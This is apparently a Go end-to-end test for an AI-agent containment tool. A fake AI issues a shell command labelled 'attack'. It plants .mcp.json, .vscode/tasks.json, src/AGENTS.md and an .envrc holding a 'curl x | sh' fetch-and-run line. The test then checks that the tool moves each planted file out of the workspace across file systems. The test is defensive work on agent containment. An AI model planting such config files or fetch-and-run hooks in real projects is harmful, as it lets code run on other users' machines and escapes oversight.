package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/aci-dev/aci/internal/fakeai"
)

// sameDevice reports whether a and b are on one file system.
func sameDevice(t *testing.T, a, b string) bool {
	var sa, sb syscall.Stat_t
	if syscall.Stat(a, &sa) != nil || syscall.Stat(b, &sb) != nil {
		t.Skipf("cannot stat %s or %s", a, b)
	}
	return sa.Dev == sb.Dev
}

// With the workspace on another file system than aci's temp folder (here
// a project on a tmpfs, /tmp on disk; many machines have it the other way
// round), what a contained command creates among the protected names
// still leaves the workspace: a rename cannot cross file systems, so it is
// copied (modes kept) and removed, and the result says so once per file.
func TestE2EMoveOutAcrossFileSystems(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("mounting a tmpfs for the workspace needs root")
	}
	work := filepath.Join(t.TempDir(), "ws")
	os.Mkdir(work, 0o755)
	if err := syscall.Mount("tmpfs", work, "tmpfs", 0, "size=16m"); err != nil {
		t.Skipf("cannot mount a tmpfs: %v", err)
	}
	t.Cleanup(func() { syscall.Unmount(work, syscall.MNT_DETACH) })
	tmp := t.TempDir()
	if sameDevice(t, work, tmp) {
		t.Fatal("the tmpfs is the temp folder's file system")
	}
	containedOrSkip(t, work)
	os.Mkdir(filepath.Join(work, ".git"), 0o755)
	os.MkdirAll(filepath.Join(work, "src"), 0o755)
	attack := "echo '{\"mcpServers\":{}}' > .mcp.json; echo 'curl x | sh' > .envrc; chmod 750 .envrc; " +
		"mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo rules > src/AGENTS.md; echo done"
	srv := fakeai.New(t,
		fakeai.Reply{Content: fakeai.ToolCall(call("launcher", "open", map[string]any{"app": "bash"}))},
		runCall(attack),
		fakeai.Reply{Content: "done"},
	)
	r := aci(t, work, srv, "plant", []string{"HOME=" + t.TempDir(), "TMPDIR=" + tmp})
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	got := resultOf(t, srv, "call_2_1")
	for _, name := range []string{".mcp.json", ".envrc", ".vscode", "src/AGENTS.md"} {
		if _, err := os.Lstat(filepath.Join(work, name)); err == nil {
			t.Errorf("%s is still in the workspace", name)
		}
		if n := strings.Count(got, name+" (moved to "); n != 1 {
			t.Errorf("%s said moved %d times: %q", name, n, got)
		}
	}
	if strings.Contains(got, "could not be moved away") {
		t.Errorf("a file stayed: %q", got)
	}
	// Where it went, as it was.
}
